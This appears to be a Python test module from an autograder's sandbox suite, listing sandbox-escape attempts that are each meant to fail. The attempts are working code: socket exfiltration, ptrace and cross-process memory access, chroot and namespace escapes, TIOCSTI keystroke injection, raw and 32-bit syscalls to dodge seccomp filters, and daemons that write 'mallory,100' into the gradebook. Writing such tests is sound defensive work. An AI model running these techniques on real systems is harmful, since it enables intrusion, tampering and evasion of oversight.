"""Ways out of the worker: the network, other processes' memory, mounts, raw calls, daemons."""

from __future__ import annotations

from hostile_cells import NOT_RIGHT, Attack, named


def escapes(name: str, harm: str, source: str, **options: object) -> Attack:
    return Attack(name, harm, source, **options)  # type: ignore[arg-type]


def call(name: str, harm: str, *arguments: str, needs: str = "privilege") -> Attack:
    """One system call, which is to fail."""
    given = ", ".join((repr(name), *arguments))
    return escapes(name, harm, f"def attack(): return raw({given}) >= 0", needs=needs)


_NETWORK = [
    escapes(
        "a word over TCP",
        "what was read leaves over the network",
        """
def attack():
    import socket
    with socket.create_connection(("127.0.0.1", PORT), timeout=2) as out:
        out.sendall(b"secret")
    return "sent"
""",
    ),
    escapes(
        "a word over TCP in six",
        "what was read leaves over the network",
        """
def attack():
    import socket
    with socket.socket(socket.AF_INET6) as out:
        out.connect(("::ffff:127.0.0.1", PORT))
    return "sent"
""",
    ),
    escapes(
        "a word over UDP",
        "what was read leaves over the network",
        """
def attack():
    import socket
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
        out.sendto(b"secret", ("127.0.0.1", DATAGRAM_PORT))
    return "sent"
""",
    ),
    escapes(
        "a socket at a path",
        "a service of the machine's is asked to do the harm",
        """
def attack():
    import socket
    with socket.socket(socket.AF_UNIX) as out:
        out.connect(SOCKET)
    return "sent"
""",
    ),
    escapes(
        "a socket at an abstract name",
        "a service of the machine's is asked to do the harm",
        """
def attack():
    import socket
    with socket.socket(socket.AF_UNIX) as out:
        out.connect("\\0" + ABSTRACT)
    return "sent"
""",
    ),
    escapes(
        "a socket that listens",
        "the submission offers a service",
        """
def attack():
    import socket
    return tried(
        lambda: socket.create_server(("", 0)).getsockname(),
        lambda: socket.create_server(("::", 0), family=socket.AF_INET6).getsockname(),
    )
""",
    ),
    escapes(
        "sockets of every other family",
        "packets, netlink, virtual machines, bluetooth and the kernel's ciphers are spoken to",
        """
def attack():
    made = []
    for family in set(range(1, 46)):
        for kind in (1, 2, 3, 5):
            number = raw("socket", family, kind, 0)
            if number >= 0:
                made.append((family, kind))
                os.close(number)
    return made
""",
    ),
    escapes(
        "a raw socket",
        "packets are forged, or others' are read",
        """
def attack():
    return [kind for kind in ((2, 3, 1), (2, 3, 255), (10, 3, 58), (17, 3, 768), (17, 2, 768))
            if raw("socket", *kind) >= 0]
""",
        needs="privilege",
    ),
    escapes(
        "a name looked up",
        "what was read leaves as a question to a name server",
        """
def attack():
    import socket
    try: socket.gethostbyname("spotlight.invalid")
    except socket.gaierror: pass
    return [line for line in open("/proc/net/udp")][1:] and ""
""",
        own_control=True,
    ),
]

_MEMORY = [
    escapes(
        "a process traced",
        "other people's processes are read and steered",
        """
def attack():
    for pid in (os.getppid(), SERVER, SIBLING):
        if raw("ptrace", 0x4206, pid, 0, 0) == 0:  # PTRACE_SEIZE
            return pid
""",
    ),
    escapes(
        "the memory of another process read",
        "keys and other people's work are read",
        """
def attack():
    room = ctypes.create_string_buffer(16)
    here = (ctypes.c_size_t * 2)(ctypes.addressof(room), 16)
    for pid in (os.getppid(), SERVER, SUPERVISOR):
        there = (ctypes.c_size_t * 2)(id(None), 16)
        if raw("process_vm_readv", pid, here, 1, there, 1, 0) > 0:
            return room.raw
""",
        own_control=True,
    ),
    escapes(
        "the memory of another process written",
        "the fork server runs what the submission wants",
        """
def attack():
    kept = ctypes.create_string_buffer(b"before")
    for pid in (os.getppid(), SERVER):
        here = (ctypes.c_size_t * 2)(ctypes.addressof(kept), 1)
        there = (ctypes.c_size_t * 2)(id(None), 0)
        if raw("process_vm_writev", pid, here, 1, there, 1, 0) >= 0:
            return pid
        with open(f"/proc/{pid}/mem", "r+b", 0):
            return pid
""",
        own_control=True,
    ),
    escapes(
        "a descriptor taken from another process",
        "the supervisor's files and pipes are the submission's",
        """
def attack():
    for pid in (SUPERVISOR, SERVER, os.getppid()):
        handle = raw("pidfd_open", pid, 0)
        if handle >= 0:
            for number in range(16):
                if (taken := raw("pidfd_getfd", handle, number, 0)) >= 0:
                    return taken
""",
    ),
    escapes(
        "processes compared",
        "the kernel tells where things lie",
        "def attack(): return raw('kcmp', os.getpid(), SERVER, 1, 0, 0) >= 0",
    ),
    escapes(
        "pages of others moved",
        "the memory of other people's processes is moved about",
        """
def attack():
    return raw("move_pages", SIBLING, 0, 0, 0, 0, 0) == 0 or \\
        raw("migrate_pages", SIBLING, 1, (ctypes.c_ulong * 1)(1), (ctypes.c_ulong * 1)(1)) == 0
""",
    ),
]

_SHARED = [
    escapes(
        "shared memory of System V",
        "something stays behind that the next student finds",
        "def attack(): return raw('shmget', KEY, 4096, 0o1666) >= 0",
    ),
    escapes(
        "semaphores of System V",
        "something stays behind that the next student finds",
        "def attack(): return raw('semget', KEY, 1, 0o1666) >= 0",
    ),
    escapes(
        "message queues of System V",
        "something stays behind that the next student finds",
        "def attack(): return raw('msgget', KEY, 0o1666) >= 0",
    ),
    escapes(
        "a message queue of POSIX",
        "something stays behind that the next student finds",
        "def attack(): return raw('mq_open', NAME.encode(), os.O_CREAT | os.O_RDWR, 0o666, 0) >= 0",
    ),
    escapes(
        "shared memory of POSIX",
        "something stays behind that the next student finds",
        """
def attack():
    from multiprocessing import resource_tracker, shared_memory
    resource_tracker.register = lambda *a: None
    return shared_memory.SharedMemory(NAME, create=True, size=4096).name
""",
    ),
    escapes(
        "a key on the kernel's ring",
        "something stays behind that the next student finds",
        "def attack(): return raw('add_key', b'user', NAME.encode(), b'secret', 6, -3) >= 0",
    ),
    escapes(
        "the teacher's keys",
        "keys that the kernel holds for the user are read",
        "def attack(): return raw('keyctl', 0, -4, 0) > 0 or open('/proc/keys').read()",
    ),
]

_KERNEL = [
    call("bpf", "a program runs in the kernel", "0", "(ctypes.c_int * 32)(2, 4, 8, 1)", "128"),
    call(
        "perf_event_open",
        "the machine is watched",
        "(ctypes.c_uint32 * 32)(1, 112, 1, 0)",
        *("0", "-1", "-1", "0"),
    ),
    call("userfaultfd", "the kernel is held up where that helps an exploit", "1", needs=""),
    call("io_uring_setup", "calls are made that no filter sees", "4", "(ctypes.c_char * 256)()"),
    call("fanotify_init", "other people's files are watched", "0", "0"),
    escapes(
        "the clock",
        "the machine's clock is changed",
        """
def attack():
    import time
    return time.clock_settime_ns(time.CLOCK_REALTIME, time.clock_gettime_ns(time.CLOCK_REALTIME)) or "set"
""",  # noqa: E501
        needs="privilege",
    ),
    call("kexec_load", "another kernel is started", "0", "0", "0", "0"),
    call("iopl", "hardware is spoken to", "3"),
    call("acct", "everybody's processes are written down", "0"),
    escapes(
        "the kernel's settings",
        "the machine is changed for everybody",
        """
def attack():
    return tried(
        lambda: raw("sethostname", *((name := os.uname().nodename.encode()), len(name))) == 0,
        lambda: open("/proc/sys/kernel/panic", "r+").close() or "may be written",
        lambda: open("/proc/sysrq-trigger", "w").close() or "may be written",
        lambda: open("/proc/self/oom_score_adj", "w").write("-1000"),
    )
""",
        needs="privilege",
    ),
    escapes(
        "devices of the kernel's",
        "virtual machines, file systems in user space and tunnels are made",
        """
def attack():
    names = ("kvm", "fuse", "net/tun", "loop-control", "vhost-net", "uinput", "ptmx")
    for name in names:
        try: os.close(os.open(f"/dev/{name}", os.O_RDWR))
        except OSError: continue
        return name
""",
        needs="privilege",
    ),
    escapes(
        "a keystroke for the teacher's terminal",
        "a command is typed into the shell that started the grader",
        """
def attack():
    import fcntl
    room = ctypes.create_string_buffer(1)
    terminal = os.open("/dev/tty", os.O_RDWR)
    return fcntl.ioctl(terminal, 0x5412, room) == 0  # TIOCSTI
""",
        own_control=True,
    ),
]

_ROOT = [
    escapes(
        "a namespace of one's own",
        "the submission becomes root in a world that it makes",
        """
def attack():
    kinds = (0x10000000, 0x20000, 0x40000000, 0x8000000, 0x4000000, 0x20000000, 0x2000000)
    return [hex(kind) for kind in kinds if raw("unshare", kind) == 0]
""",
        needs="privilege",
    ),
    escapes(
        "the namespaces of others",
        "the submission enters where the supervisor is",
        """
def attack():
    for pid in (SUPERVISOR, SERVER, 1):
        for kind in ("user", "mnt", "pid", "net", "ipc"):
            number = os.open(f"/proc/{pid}/ns/{kind}", os.O_RDONLY)
            if raw("setns", number, 0) == 0:
                return kind
""",
        needs="privilege",
    ),
    escapes(
        "something mounted",
        "the files that may be read are other files",
        """
def attack():
    os.makedirs("mounted", exist_ok=True)
    return tried(
        lambda: raw("mount", WORLD.encode(), b"mounted", 0, 4096, 0) == 0 and
        (secrets_below("mounted") or "mounted"),
        lambda: raw("mount", b"none", b"mounted", b"tmpfs", 0, 0) == 0,
        lambda: raw("open_tree", -100, b"/", 1) >= 0,
        lambda: raw("fsopen", b"tmpfs", 0) >= 0,
    )
""",
        needs="privilege",
        own_control=True,
    ),
    escapes(
        "another root",
        "the old root is left through a descriptor",
        """
def attack():
    os.makedirs("root", exist_ok=True)
    outside = os.open(".", os.O_RDONLY)
    os.chroot("root")
    os.fchdir(outside)
    for _ in range(64): os.chdir("..")
    os.chroot(".")
    return secrets_below(WORLD)
""",
        needs="privilege",
    ),
    escapes(
        "a file by its handle",
        "a file is opened without a path to it",
        """
def attack():
    handle = (ctypes.c_uint32 * 34)(128)
    mount = ctypes.c_int()
    path = (WORLD + "/out/gradebook.csv").encode()
    if raw("name_to_handle_at", -100, path, handle, ctypes.byref(mount), 0) < 0:
        ctypes.memmove(handle, (ctypes.c_uint32 * 6)(8, 1, 2, 0), 24)
    for folder in (".", "/", "/usr"):
        number = raw("open_by_handle_at", os.open(folder, os.O_RDONLY), handle, os.O_RDONLY)
        if number >= 0:
            return os.read(number, 100)
""",
        needs="privilege",
    ),
    escapes(
        "another user",
        "the submission becomes root, or the teacher",
        """
def attack():
    before = os.getuid()
    for user in (0, 1000, 65534):
        try: os.setresuid(user, user, user)
        except OSError: continue
        if os.getuid() != before: return user
    os.setgroups([0])
    return "root's groups"
""",
        needs="privilege",
    ),
    escapes(
        "rights that were dropped taken again",
        "the submission has root's rights",
        """
def attack():
    held = [line.split()[1] for line in open("/proc/self/status") if line.startswith(("CapPrm", "CapEff"))]
    return [rights for rights in held if int(rights, 16)]
""",  # noqa: E501
        needs="privilege",
    ),
    escapes(
        "a program that runs as root",
        "sudo, su or mount run as root",
        """
def attack():
    for name in ("su", "sudo", "mount", "passwd", "ping"):
        for folder in ("/bin", "/usr/bin"):
            if os.path.exists(f"{folder}/{name}"):
                child = os.posix_spawn(f"{folder}/{name}", [name, "--version"], {})
                os.waitpid(child, 0)
                return name
""",
    ),
]

_CODE = [
    escapes(
        "a command run",
        "any program of the machine is started",
        """
def attack():
    import subprocess
    return subprocess.run(["/bin/sh", "-c", "echo done"], capture_output=True).stdout
""",
    ),
    escapes(
        "the worker replaced by a program",
        "any program of the machine runs in the worker's place",
        """
def attack():
    os.execv("/bin/sh", ["sh", "-c", f"echo x >> {WORLD}/out/gradebook.csv"])
""",
    ),
    escapes(
        "a program from memory",
        "a program runs that stands in no file",
        """
def attack():
    number = os.memfd_create("program", 0)
    with open("/bin/true", "rb") as program:
        os.write(number, program.read())
    child = os.fork()
    if child == 0:
        try: os.execve(number, ["true"], {})
        finally: os._exit(1)
    return os.waitpid(child, 0)[1] == 0
""",
    ),
    escapes(
        "a program from the scratch folder",
        "a program that came with the notebook runs",
        """
def attack():
    with open("program", "w") as program:
        program.write(f"#!/bin/sh\\necho x >> {WORLD}/out/gradebook.csv\\n")
    os.chmod("program", 0o6755)
    return os.posix_spawn("./program", ["program"], {}) and os.wait()[1] == 0
""",
    ),
    escapes(
        "a compiled library",
        "code that came with the notebook forks, leaves its session and writes into the class",
        """
def attack():
    import base64
    with open("library.so", "wb") as file:
        file.write(base64.b64decode(LIBRARY))
    library = ctypes.CDLL(os.path.abspath("library.so"))
    return library.harm((WORLD + "/class/" + NAME).encode()) == 0
""",
        needs="compiler",
    ),
    escapes(
        "machine code that makes raw calls",
        "the filter sees the C library's calls only",
        """
def attack():
    code = bytes.fromhex("4889f84889f74889d64889ca4d89c24d89c80f05c3")
    made = {name: machine_code(code, NUMBERS[name][0], *arguments, 0, 0) for name, arguments in {
        "socket": (2, 1, 0), "shmget": (KEY, 4096, 0o1666), "kill": (SIBLING, 18, 0),
        "unshare": (0x8000000, 0, 0),
    }.items()}
    return [name for name, result in made.items() if result >= 0]
""",
        needs="x86-64",
    ),
    escapes(
        "calls by their 32-bit numbers",
        "a filter for 64-bit numbers lets another call through",
        """
def attack():
    code = bytes.fromhex("5389f889f387d1cd805bc3")  # int 0x80
    made = {
        "socket": machine_code(code, 359, 2, 1, 0),
        "kill": machine_code(code, 37, SIBLING, 18, 0),
        "unshare": machine_code(code, 310, 0x10000000, 0, 0),
        "semget": machine_code(code, 393, KEY, 1, 0o1666),
    }
    return [name for name, result in made.items() if 0 <= result & 0xFFFFFFFF < 2**31]
""",
        needs="32-bit calls",
    ),
    escapes(
        "calls by the numbers of x32",
        "a filter for plain numbers lets a marked one through",
        """
def attack():
    MARKED = 0x40000000
    return [number for number in (41, 62, 29) if
            LIBC.syscall(ctypes.c_long(MARKED + number), *{41: (2, 1, 0), 62: (SIBLING, 18),
                                                          29: (KEY, 4096, 0o1666)}[number]) >= 0]
""",
        needs="x86-64",
        own_control=True,
    ),
]

_DAEMONS = [
    escapes(
        "a daemon",
        "it changes marks when the grading is long over",
        """
def attack():
    import time
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            time.sleep(0.5)
            with open(WORLD + "/out/gradebook.csv", "a") as book:
                book.write("mallory,100\\n")
            time.sleep(30)
        os._exit(0)
""",
    ),
    escapes(
        "a daemon that is started with the cell",
        "it changes marks when the grading is long over",
        """
def attack():
    import subprocess
    script = f"sleep 0.5; echo mallory,100 >> {WORLD}/out/gradebook.csv; sleep 30"
    subprocess.Popen(["setsid", "sh", "-c", script], start_new_session=True)
""",
        when="at once",
    ),
    escapes(
        "a daemon by posix_spawn and by the C library",
        "it outlives the grading",
        """
def attack():
    return tried(
        lambda: os.posix_spawn("/bin/sleep", ["sleep", "30"], {}, setsid=True),
        lambda: LIBC.system(b"setsid sleep 30 &") == 0,
    )
""",
    ),
    escapes(
        "a child of the supervisor's",
        "a process is started that the fork server does not know",
        """
def attack():
    clone = (ctypes.c_uint64 * 8)(0x8000)  # CLONE_PARENT
    child = raw("clone3", clone, 64)
    if child == 0:
        LIBC.setsid()
        LIBC.sleep(30)
        LIBC._exit(0)
    return child > 0
""",
    ),
    escapes(
        "the death with its parent declined",
        "the worker outlives the fork server",
        """
def attack():
    import time
    LIBC.prctl(1, 0, 0, 0, 0)  # PR_SET_PDEATHSIG
    LIBC.prctl(36, 1, 0, 0, 0)  # PR_SET_CHILD_SUBREAPER
    LIBC.prctl(4, 1, 0, 0, 0)  # PR_SET_DUMPABLE
    os.setpgid(0, 0)
    if os.fork() == 0:
        time.sleep(30)
        os._exit(0)
""",
    ),
    escapes(
        "a handler for every signal",
        "the worker cannot be ended",
        """
def attack():
    import signal, time
    for number in set(signal.Signals) - {signal.SIGKILL, signal.SIGSTOP}:
        signal.signal(number, lambda *a: None)
    for number in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGXCPU):
        os.kill(os.getpid(), number)
""",
        own_control=True,
        statuses=NOT_RIGHT,
    ),
]

ESCAPES = named([*_NETWORK, *_MEMORY, *_SHARED, *_KERNEL, *_ROOT, *_CODE, *_DAEMONS])
